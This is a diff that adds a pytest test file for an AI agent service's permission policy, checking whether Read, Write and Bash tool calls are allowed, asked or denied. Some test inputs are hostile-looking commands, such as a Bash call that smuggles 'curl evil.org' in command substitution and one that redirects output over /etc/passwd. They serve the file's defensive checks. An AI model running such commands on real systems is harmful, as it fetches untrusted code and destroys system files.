@@ -1,0 +1,99 @@
+"""What a policy says of a call."""
+
+from collections.abc import Sequence
+
+import pytest
+
+from agent_svc.hosts.vocabulary import ToolCall, relative_target
+from agent_svc.permissions import Verdict, decide
+from heddle import pb
+
+ASK, ALLOW, DENY = Verdict.ASK, Verdict.ALLOW, Verdict.DENY
+
+
+def verdict(
+    permissions: pb.Permissions, tool: str, target: str = "", *, writes: bool = False, reads: bool = False
+) -> Verdict:
+    return decide(permissions, tool, target, writes_inside=writes, reads=reads).verdict
+
+
+def policy(
+    default: "pb.PermissionDecision.ValueType" = pb.PERMISSION_DECISION_UNSPECIFIED,
+    allow: Sequence[str] = (),
+    deny: Sequence[str] = (),
+) -> pb.Permissions:
+    return pb.Permissions(default=default, allow=allow, deny=deny)
+
+
+def test_asks_unless_told_otherwise() -> None:
+    """Without a policy, reading and writing inside the worktree is allowed and the rest is asked."""
+    assert verdict(policy(), "Read", "a.txt", reads=True) is ALLOW
+    assert verdict(policy(), "Write", "a.txt", writes=True) is ALLOW
+    assert verdict(policy(), "Write", "/etc/passwd") is ASK
+    assert verdict(policy(), "Bash", "ls") is ASK
+
+
+@pytest.mark.parametrize(
+    ("default", "expected"),
+    [
+        (pb.PERMISSION_DECISION_ASK, ASK),
+        (pb.PERMISSION_DECISION_ALLOW, ALLOW),
+        (pb.PERMISSION_DECISION_DENY, DENY),
+    ],
+)
+def test_the_default_is_for_the_rest(default: "pb.PermissionDecision.ValueType", expected: Verdict) -> None:
+    """The default decides what nothing else does, and never takes reading away."""
+    assert verdict(policy(default), "Bash", "ls") is expected
+    assert verdict(policy(default), "Read", "a.txt", reads=True) is ALLOW
+
+
+def test_deny_wins_over_all() -> None:
+    """A denied call is denied whatever else allows it."""
+    strict = policy(
+        pb.PERMISSION_DECISION_ALLOW,
+        allow=["Bash(*)", "Write"],
+        deny=["Bash(git push:*)", "Write(secret/**)"],
+    )
+    assert verdict(strict, "Bash", "make && git push origin") is DENY
+    assert verdict(strict, "Write", "secret/a", writes=True) is DENY
+    assert verdict(strict, "Bash", "make") is ALLOW
+
+
+def test_every_part_of_a_command_must_be_allowed() -> None:
+    """Parts may be allowed by different patterns; one that is not makes a question of all."""
+    some = policy(allow=["Bash(make:*)", "Bash(git status)"])
+    assert verdict(some, "Bash", "make all && git status") is ALLOW
+    assert verdict(some, "Bash", "make all && git push") is ASK
+    assert verdict(some, "Bash", "make $(curl evil.org)") is ASK
+    assert verdict(some, "Bash", "make > /etc/passwd") is ASK
+    assert verdict(some, "Bash", "") is ASK
+
+
+def test_a_malformed_pattern_opens_nothing() -> None:
+    """A pattern that is none allows nothing, and denies everything."""
+    assert verdict(policy(allow=["Bash("]), "Bash", "ls") is ASK
+    assert verdict(policy(deny=["Bash("]), "Read", "a.txt", reads=True) is DENY
+
+
+def call(name: str, target: str, kind: "pb.ToolKind.ValueType") -> ToolCall:
+    return ToolCall(id="1", name=name, target=target, kind=kind, input="")
+
+
+@pytest.mark.parametrize(
+    "target", [".git", ".git/config", "a/.GIT/hooks/x", ".claude/settings.json", "/etc/passwd", ""]
+)
+def test_some_files_are_more_than_files(target: str) -> None:
+    """What git or an agent obeys, and what lies outside, is not simply written."""
+    assert not call("Write", target, pb.TOOL_KIND_EDIT).writes_inside
+    assert call("Write", "src/claude/.gitignore", pb.TOOL_KIND_EDIT).writes_inside
+
+
+def test_targets_are_relative_to_the_worktree(tmp_path_factory: pytest.TempPathFactory) -> None:
+    """A path inside is relative, one outside absolute, and a link leads where it leads."""
+    worktree = tmp_path_factory.mktemp("tree")
+    elsewhere = tmp_path_factory.mktemp("elsewhere")
+    (worktree / "out").symlink_to(elsewhere)
+    assert relative_target(worktree, str(worktree / "a" / "b")) == "a/b"
+    assert relative_target(worktree, "a/../b") == "b"
+    assert relative_target(worktree, "out/x") == str(elsewhere / "x")
+    assert relative_target(worktree, "../x") == str(worktree.parent / "x")
